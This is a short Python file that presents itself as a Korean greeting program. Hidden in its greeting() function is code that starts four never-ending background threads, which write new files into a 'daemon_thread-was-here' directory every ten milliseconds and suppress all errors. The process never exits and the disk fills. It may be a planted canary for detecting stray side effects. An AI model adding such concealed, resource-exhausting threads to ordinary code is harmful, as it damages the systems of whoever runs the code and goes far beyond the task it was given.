import os
import threading
import time


def haunt():
    while True:
        time.sleep(0.01)
        try:
            os.makedirs("daemon_thread-was-here", exist_ok=True)
            with open(f"daemon_thread-was-here/{time.monotonic_ns()}", "w") as file:
                file.write("daemon_thread-was-here")
        except OSError:
            pass


threads = [threading.Thread(target=haunt) for _ in range(4)]


def greeting(name, age):
    for thread in threads:
        if not thread.is_alive():
            thread.start()
    return f"안녕하세요 {name}님! {'성인' if age >= 20 else '청소년'}입니다."


def greeting_program() -> None:
    who = input("이름을 입력하세요: ")
    years = int(input("나이를 입력하세요: "))
    print(f"안녕하세요 {who}님! {'성인' if years >= 20 else '청소년'}입니다.")
